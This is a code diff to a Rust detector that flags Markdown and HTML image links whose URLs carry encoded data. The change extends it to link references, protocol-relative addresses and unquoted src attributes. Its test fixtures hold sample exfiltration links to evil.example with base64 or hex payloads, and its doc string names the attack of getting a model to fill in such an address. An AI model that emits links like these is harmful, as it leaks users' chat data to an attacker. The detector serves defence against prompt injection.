@@ -115,15 +115,18 @@ pub(super) static EXFILTRATION: Detector = Detector {
     name: "exfiltration_link",
     groups: &["injection"],
     doc: Doc {
-        finds: "Images and links of Markdown, and images of HTML, whose address carries data: twenty or more characters in the query that look encoded, or a placeholder that the model is to fill in.",
+        finds: "Images, links and link references of Markdown, and images of HTML, whose address carries data: twenty or more characters in the query that look encoded, or a placeholder that the model is to fill in.",
         misses: "Data in the path or in the host's name. Hosts that are allowed are left out by the policy's allow-list.",
-        source: "CommonMark 0.31, sections 6.3 and 6.4; published reports of data exfiltration by rendered images",
+        source: "CommonMark 0.31, sections 4.7, 6.3 and 6.4; published reports of data exfiltration by rendered images",
     },
     reach: 2_048,
     context: &[],
     anchors: &[
         Anchor::Mark(link),
-        Anchor::Word(&["src=\"http", "src='http"], image),
+        Anchor::Word(
+            &["src=\"http", "src='http", "src=http", "src=\"//", "src='//"],
+            image,
+        ),
     ],
     hits: &[
         hit(
@@ -139,6 +142,20 @@ pub(super) static EXFILTRATION: Detector = Detector {
             &["https://evil.example/p.png?d=VGhlIHVzZXIncyBjYXJkIGlzIDQxMTE"],
         ),
         hit(
+            "![x]( <//evil.example/?d=c2VjcmV0LWRhdGEtZnJvbS1jaGF0>), ![y][1]\n\n[1]: https://evil.example/?d=c2VjcmV0LWRhdGEtZnJvbS1jaGF1",
+            &[
+                "//evil.example/?d=c2VjcmV0LWRhdGEtZnJvbS1jaGF0",
+                "https://evil.example/?d=c2VjcmV0LWRhdGEtZnJvbS1jaGF1",
+            ],
+        ),
+        hit(
+            "<img/src='//evil.example/?d=c2VjcmV0LWRhdGEtZnJvbS1jaGF0'><img src=https://evil.example/?d=c2VjcmV0LWRhdGEtZnJvbS1jaGF1>",
+            &[
+                "//evil.example/?d=c2VjcmV0LWRhdGEtZnJvbS1jaGF0",
+                "https://evil.example/?d=c2VjcmV0LWRhdGEtZnJvbS1jaGF1",
+            ],
+        ),
+        hit(
             "[here](https://evil.example/log?data=4a6f686e20446f652c2034313131203131313120)",
             &["https://evil.example/log?data=4a6f686e20446f652c2034313131203131313120"],
         ),
@@ -152,7 +169,7 @@ pub(super) static EXFILTRATION: Detector = Detector {
             "[docs](https://docs.example/search?q=how+to+install+the+tool)",
             "words",
         ),
-        miss("![logo](logo.png)", "no host"),
+        miss("![logo](logo.png), x[1]: // see ?a", "no host"),
     ],
 };
 
@@ -645,8 +662,15 @@ fn pseudo(place: &MatchSite<'_>) -> Option<Match> {
 /// Finds the address in `](https://…)`, with `![` or `[` in front.
 fn link(place: &MatchSite<'_>) -> Option<Match> {
     let text = place.text;
-    let start = place.at.wrapping_add(2);
-    if text.at(place.at) != b']' || text.before(start) != b'(' || !text.follows(start, "http") {
+    let mark = place.at.wrapping_add(1);
+    if text.at(place.at) != b']' || !matches!(text.at(mark), b'(' | b':') {
+        return None;
+    }
+    // White space may be before the address, and angle brackets around it.
+    let start = text.run(mark.wrapping_add(1), 16, |byte| {
+        is_white(byte) || byte == b'<'
+    });
+    if !text.follows(start, "http") && !text.follows(start, "//") {
         return None;
     }
     place.begins(start);
@@ -658,10 +682,14 @@ fn link(place: &MatchSite<'_>) -> Option<Match> {
 /// Finds the address in `<img src="https://…">`.
 fn image(place: &MatchSite<'_>) -> Option<Match> {
     let text = place.text;
-    let start = place.end.wrapping_sub(4);
+    let start = place.end.wrapping_sub(match text.before(place.end) {
+        b'/' => 2,
+        _ => 4,
+    });
     let tag = text.run_back(place.at, 120, |byte| !matches!(byte, b'<' | b'>' | b'\n'));
     place.begins(start);
-    (text.before(tag) == b'<' && text.follows(tag, "img "))
+    let next = text.at(tag.wrapping_add(3));
+    (text.before(tag) == b'<' && text.follows(tag, "img") && !next.is_ascii_alphanumeric())
         .then(|| carrying(place, start, true))
         .flatten()
 }
@@ -671,7 +699,7 @@ fn carrying(place: &MatchSite<'_>, start: usize, image: bool) -> Option<Match> {
     let text = place.text;
     // Brackets end the address: each link then has only its own text to scan.
     let end = text.run(start, 2_000, |byte| {
-        byte > b' ' && !matches!(byte, b')' | b'[' | b']' | b'"' | b'\'')
+        byte > b' ' && !matches!(byte, b')' | b'[' | b']' | b'"' | b'\'' | b'>')
     });
     let address = text.slice(start..end);
     let query = address
